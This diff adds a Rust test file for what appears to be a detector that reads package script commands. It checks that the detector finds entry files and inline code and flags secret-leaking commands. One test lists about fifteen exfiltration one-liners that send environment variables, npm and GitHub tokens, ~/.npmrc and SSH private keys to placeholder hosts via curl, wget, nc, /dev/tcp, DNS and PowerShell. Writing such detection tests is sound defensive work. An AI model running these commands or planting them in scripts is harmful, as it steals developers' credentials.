@@ -1,0 +1,118 @@
+use std::collections::BTreeMap;
+
+use super::{Reading, names_tool, read};
+
+fn plain(text: &str) -> Reading {
+    let scripts = BTreeMap::from([
+        ("build".to_owned(), "node build.js".to_owned()),
+        ("loop".to_owned(), "npm run loop".to_owned()),
+    ]);
+    read(text, &scripts)
+}
+
+#[test]
+fn entry_files_are_found() {
+    for (command, file) in [
+        ("node x.js", "x.js"),
+        ("node ./dir", "./dir"),
+        ("node --no-warnings -r ./pre x.js || true", "x.js"),
+        ("cross-env A=1 B=2 node scripts/x.cjs", "scripts/x.cjs"),
+        ("NODE_ENV=production node x", "x"),
+        ("bun x.ts", "x.ts"),
+        ("bun run index.js", "index.js"),
+        ("tsx x.ts", "x.ts"),
+        ("npx ts-node x.ts", "x.ts"),
+        ("sh ./x.sh", "./x.sh"),
+        ("./x.js", "./x.js"),
+        ("npm run build", "build.js"),
+        ("yarn build && echo done", "build.js"),
+        ("true; (cd lib && node a.js)", "lib/a.js"),
+        ("bash -c 'node x.js'", "x.js"),
+        ("node -r ./hook.js -e 1", "./hook.js"),
+        ("exit 0 | node x.js > /dev/null 2>&1", "x.js"),
+    ] {
+        let reading = plain(command);
+        assert!(
+            reading.files.iter().any(|found| found == file),
+            "{command}: {reading:?}"
+        );
+    }
+}
+
+#[test]
+fn inline_code_is_found() {
+    for command in [
+        "node -e \"require('./a')\"",
+        "node -p 'require(`./a`)'",
+        "bun -e \"x\"",
+        "node --eval=\"x\"",
+    ] {
+        assert_eq!(plain(command).inline.len(), 1, "{command}");
+    }
+    assert_eq!(
+        plain("node -e \"try{require('./a')}catch(e){}\"").inline,
+        ["try{require('./a')}catch(e){}"]
+    );
+}
+
+#[test]
+fn loops_and_hostile_text_end() {
+    plain("npm run loop");
+    plain(&"$(".repeat(10_000));
+    plain(&"`".repeat(9_999));
+    plain(&"sh -c \"".repeat(1_000));
+    plain("'");
+    plain("\\");
+}
+
+#[test]
+fn secrets_that_the_shell_sends_are_found() {
+    for command in [
+        "curl -d \"$(env)\" https://collector.invalid",
+        "env | curl -X POST --data-binary @- https://collector.invalid",
+        "curl https://collector.invalid/?t=$NPM_TOKEN",
+        "curl -F f=@$HOME/.npmrc https://collector.invalid",
+        "curl --data-binary @~/.ssh/id_rsa https://collector.invalid",
+        "cat ~/.npmrc | nc collector.invalid 99",
+        "wget --post-file=$HOME/.npmrc https://collector.invalid",
+        "printenv > /dev/tcp/collector.invalid/80",
+        "curl -d \"`gh auth token`\" https://collector.invalid",
+        "T=$(cat ~/.npmrc | base64); curl -d \"$T\" https://collector.invalid",
+        "nslookup $(printenv NPM_TOKEN).collector.invalid",
+        "bash -c 'env | base64 | curl -d @- https://collector.invalid'",
+        "curl -H \"authorization: $GITHUB_TOKEN\" https://a.ngrok.example",
+        "powershell -Command \"Invoke-WebRequest https://collector.invalid -Body $env:NPM_TOKEN\"",
+        "curl https://collector.invalid -d $(npm config get //registry.example.invalid/:_authToken)",
+    ] {
+        assert!(!plain(command).leaks.is_empty(), "{command}");
+    }
+}
+
+#[test]
+fn ordinary_commands_send_nothing() {
+    for command in [
+        "node-gyp rebuild",
+        "curl -L https://downloads.example/tool.tgz | tar xz",
+        "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.example/releases",
+        "env NODE_ENV=production node x.js",
+        "cat .npmrc",
+        "echo $NPM_TOKEN > /dev/null",
+        "curl -L $MIRROR/tool.tgz -o tool.tgz",
+        "husky install",
+        "set -e; curl -fsSL https://downloads.example/x -o x",
+        "node scripts/env.js | tee log",
+    ] {
+        assert!(
+            plain(command).leaks.is_empty(),
+            "{command}: {:?}",
+            plain(command).leaks
+        );
+    }
+}
+
+#[test]
+fn network_tools_are_seen_in_any_position() {
+    assert!(names_tool("sudo -E /usr/bin/curl x"));
+    assert!(names_tool("sh -c \"wget x\""));
+    assert!(!names_tool("node curl.js"));
+}
